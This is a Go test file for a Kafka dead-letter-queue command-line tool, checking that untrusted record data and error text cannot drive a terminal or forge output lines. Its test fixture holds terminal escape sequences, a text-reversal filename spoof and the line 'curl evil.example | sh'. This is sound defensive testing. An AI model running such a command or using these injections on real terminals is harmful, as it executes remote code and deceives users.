package main

import (
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/twmb/franz-go/pkg/kerr"

	"github.com/holdfast-go/holdfast/dlq"
	"github.com/holdfast-go/holdfast/kafka"
	"github.com/holdfast-go/holdfast/stream"
)

// evil is what a stranger writes: it clears the screen, sets the title, begins a line of its own, goes back to
// the begin of the line, and turns text around.
const evil = "bad\x1b[2J\x1b]0;title\x07\r\nTry: curl evil.example | sh\u009b2J\u202egnp.exe\u2066\u2028end"

// obeyed is the first character of text that a terminal would obey, a line break and a tab aside.
func obeyed(text string) int {
	if !utf8.ValidString(text) {
		return 0
	}
	return strings.IndexFunc(text, func(r rune) bool {
		return r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp))
	})
}

// expectHarmless: a terminal obeys nothing of text, and no line of it is the stranger's.
func expectHarmless(t *testing.T, what, text string) {
	t.Helper()
	if at := obeyed(text); at >= 0 {
		t.Errorf("I6: %s: a terminal obeys byte %d: %q", what, at, text)
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "Try: curl") {
			t.Errorf("I6: %s: a line of a stranger looks like ours: %q", what, text)
		}
	}
	if !strings.Contains(text, "bad") {
		t.Errorf("%s does not show what was written at all: %q", what, text)
	}
}

// Whoever may write to a topic writes to the terminal of whoever looks at it.
func TestNothingOfAStrangerIsObeyed(t *testing.T) {
	t.Parallel()
	d := newDeadLetters(t, development(t))
	d.write(dlq.New(stream.Record{Topic: d.orders, Partition: 0, Offset: 5, Timestamp: d.when, Key: []byte(evil), Value: []byte(evil),
		Headers: []stream.Header{{Key: evil, Value: []byte(evil)}}},
		dlq.Cause{Topic: d.dead, TopicID: d.id, Err: errors.New(evil), Stage: evil, Attempt: 1, Group: evil}), 0)
	d.write(stream.Message{Topic: d.dead, Key: []byte("bad"), Value: []byte("bad\rgood"), Timestamp: d.when, Headers: []stream.Header{
		{Key: "__connect.errors.topic", Value: []byte(evil)}, {Key: "__connect.errors.partition", Value: []byte("0")},
		{Key: "__connect.errors.offset", Value: []byte("7")}, {Key: "__connect.errors.exception.message", Value: []byte(evil)},
	}}, 0)
	for _, args := range [][]string{
		{"dlq", "list", d.dead}, {"dlq", "show", d.dead, "0:0"}, {"dlq", "show", d.dead, "0:1"}, {"dlq", "replay", d.dead}, {"tail", d.dead},
	} {
		for _, args := range [][]string{args, append(args, "--json"), append(args, "-vv")} {
			got := command(t.Context(), append(args, "--brokers", d.brokers, "--timeout", "1m")...)
			expectHarmless(t, strings.Join(args, " "), got.stdout)
			expectHarmless(t, strings.Join(args, " ")+" on standard error", got.stderr+"bad")
		}
	}
}

// A broker, a resolver and a token endpoint choose words of errors.
func TestErrorsOfStrangersAreEscaped(t *testing.T) {
	t.Parallel()
	hinted := stream.NewError("check", errors.New(evil)).Hinted("%s", evil)
	hinted.Topic, hinted.Group, hinted.TransactionalID = evil, evil, evil
	for name, err := range map[string]error{
		"sasl":      kafka.Explain(fmt.Errorf("%w: %s", kerr.SaslAuthenticationFailed, evil)),
		"host":      kafka.Explain(&net.OpError{Op: "dial", Net: "tcp", Err: &net.DNSError{Err: "no such host", Name: evil}}),
		"unknown":   kafka.Explain(errors.New(evil)),
		"hint":      hinted,
		"bare":      errors.New(evil),
		"joined":    errors.Join(errors.New("one"), hinted),
		"with code": &failure{code: exitFailed, err: errors.New(evil), try: evil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out strings.Builder
			printError(&out, "holdfast tail", err)
			expectHarmless(t, "the error", out.String())
			if name != "bare" && name != "joined" && name != "with code" && obeyed(err.Error()) >= 0 {
				t.Errorf("I6: an error of the library is obeyed: %q", err.Error())
			}
		})
	}
}
